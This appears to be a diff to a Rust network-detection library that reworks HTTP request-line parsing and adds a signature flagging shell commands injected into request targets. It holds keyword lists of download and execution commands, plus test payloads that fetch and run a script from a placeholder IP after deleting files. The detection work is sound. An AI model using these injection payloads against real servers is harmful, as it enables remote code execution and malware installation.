@@ -32,14 +32,31 @@ fn request(payload: &Payload<'_>) -> Option<String> {
     if !is_request(payload.bytes) {
         return None;
     }
-    let line = first_line(payload.bytes);
-    let mut words = line.splitn(3, |&byte| byte == b' ');
-    let (method, target, version) = (words.next()?, words.next()?, words.next()?);
-    if !METHODS.contains(&method) || target.is_empty() || !version.starts_with(b"HTTP/1.") {
-        return None;
-    }
+    let (method, target) = request_line(payload.bytes)?;
     let host = field(payload.bytes, b"host").map_or_else(String::new, |host| format!(" to {}", quote(host)));
     Some(format!("{} {}{host}", quote(method), quote(target)))
+}
+
+/// Method and target of a request. Targets are quoted as they are sent: botnets and bad scripts leave blanks in them. The
+/// first protocol had neither version nor anything behind the line (HTTP/0.9); other protocols ask so for a key, but none for a
+/// path.
+fn request_line(bytes: &[u8]) -> Option<(&[u8], &[u8])> {
+    let line = first_line(bytes);
+    let (method, rest) = line.split_at(memchr::memchr(b' ', line)?);
+    let version = memchr::memmem::rfind(rest, b" HTTP/1.");
+    let target = match version {
+        Some(at) => &rest[..at],
+        None if method == b"GET" && rest.starts_with(b" /") && bytes.len() <= line.len() + 2 && ends_line(bytes) => {
+            rest
+        }
+        None => return None,
+    };
+    let target = target.trim_ascii();
+    (METHODS.contains(&method) && !target.is_empty()).then_some((method, target))
+}
+
+fn ends_line(bytes: &[u8]) -> bool {
+    bytes.last() == Some(&b'\n')
 }
 
 fn response(payload: &Payload<'_>) -> Option<String> {
@@ -96,6 +113,9 @@ pub const REQUEST: Signature = Signature {
     see: request,
     hits: &[
         (Transport::Tcp, b"GET /status HTTP/1.1\r\nHost: meter.test\r\n\r\n"),
+        (Transport::Tcp, b"GET /a name with blanks  HTTP/1.1\r\n\r\n"),
+        (Transport::Tcp, b"GET  /two-blanks HTTP/1.0\r\n\r\n"),
+        (Transport::Tcp, b"GET /first.html\r\n"),
         (Transport::Tcp, b"POST /a HTTP/1.0\r\n\r\nx=1"),
     ],
     misses: &[
@@ -120,6 +140,83 @@ pub const RESPONSE: Signature = Signature {
         (Transport::Tcp, b"HTTP/2.0 200 OK\r\n"),
         (Transport::Tcp, b"HTTP/1.1 2000\r\n"),
         (Transport::Tcp, b"RTSP/1.0 200 OK\r\n"),
+    ],
+};
+
+/// Bytes of a target that are looked at.
+const MAX_TARGET: usize = 1024;
+
+/// A command in a request's target: behind a character with which a shell begins another command, one that fetches a program or
+/// makes it run.
+fn injection(payload: &Payload<'_>) -> Option<String> {
+    if payload.transport != Transport::Tcp || !is_request(payload.bytes) {
+        return None;
+    }
+    let (_, target) = request_line(payload.bytes)?;
+    let target = unquoted(&target[..target.len().min(MAX_TARGET)]);
+    let begins = |at: usize| {
+        let before = target[..at].trim_ascii_end();
+        before.is_empty() || before.last().is_some_and(|byte| b";|&`(\n".contains(byte))
+    };
+    let found = |word: &&[u8]| memchr::memmem::find_iter(&target, *word).any(begins);
+    let fetches = FETCHERS.iter().any(|word| {
+        memchr::memmem::find_iter(&target, *word).filter(|at| begins(*at)).any(|at| {
+            let rest = &target[at + word.len()..];
+            let end = rest.iter().position(|byte| b";|&".contains(byte)).unwrap_or(rest.len());
+            let (mut words, argument) = (rest[..end].split(|byte| *byte == b' '), &rest[..end]);
+            memchr::memmem::find(argument, b"://").is_some() || words.any(is_host)
+        })
+    });
+    let runs = RUNNERS.iter().filter(|word| found(word)).count();
+    (fetches || runs >= 2).then(|| quote(target.trim_ascii()))
+}
+
+/// Commands that fetch a program, and those that make it run, as injections have them.
+const FETCHERS: [&[u8]; 5] = [b"wget ", b"curl ", b"tftp ", b"ftpget ", b"busybox wget "];
+const RUNNERS: [&[u8]; 8] =
+    [b"cd /tmp", b"cd /var", b"cd /dev/shm", b"chmod ", b"rm -rf ", b"sh /tmp", b"/bin/sh", b"/bin/busybox"];
+
+/// Whether a word begins with an IPv4 address.
+fn is_host(word: &[u8]) -> bool {
+    let end = word.iter().position(|byte| !byte.is_ascii_digit() && *byte != b'.').unwrap_or(word.len());
+    std::str::from_utf8(&word[..end]).is_ok_and(|text| text.parse::<std::net::Ipv4Addr>().is_ok())
+}
+
+/// A target without percent signs and with blanks for plus signs.
+fn unquoted(target: &[u8]) -> Vec<u8> {
+    let mut plain = Vec::with_capacity(target.len());
+    let mut rest = target;
+    while let Some((&byte, tail)) = rest.split_first() {
+        let hex = |at: usize| tail.get(at).and_then(|digit| char::from(*digit).to_digit(16));
+        let (value, used) = match (byte, hex(0), hex(1)) {
+            (b'%', Some(high), Some(low)) => (u8::try_from(high * 16 + low).unwrap_or(b'?'), 2),
+            (b'+', ..) => (b' ', 0),
+            _ => (byte, 0),
+        };
+        plain.push(value);
+        rest = &tail[used..];
+    }
+    plain
+}
+
+pub const INJECTION: Signature = Signature {
+    id: "http.injection",
+    protocol: "http",
+    about: "A request whose target holds a shell command that fetches a program or makes it run, behind a character that begins a command: an \
+attack on the server, whether it works or not.",
+    class: Class::Suspicious,
+    weight: Weight::STRONG,
+    attack: Some("T1190"),
+    sender: Sender::Client,
+    see: injection,
+    hits: &[
+        (Transport::Tcp, b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/a.sh;sh+/tmp/a.sh HTTP/1.1\r\n\r\n"),
+        (Transport::Tcp, b"GET /cgi?q=x%3Bcurl%20http%3A%2F%2F192.0.2.1%2Fa%7Csh HTTP/1.0\r\n\r\n"),
+    ],
+    misses: &[
+        (Transport::Tcp, b"GET /search?q=wget+http://example.test/file HTTP/1.1\r\n\r\n"),
+        (Transport::Tcp, b"GET /docs?a=1;b=chmod+explained HTTP/1.1\r\n\r\n"),
+        (Transport::Tcp, b"GET /pub/tmp/cd.iso HTTP/1.1\r\n\r\n"),
     ],
 };
 
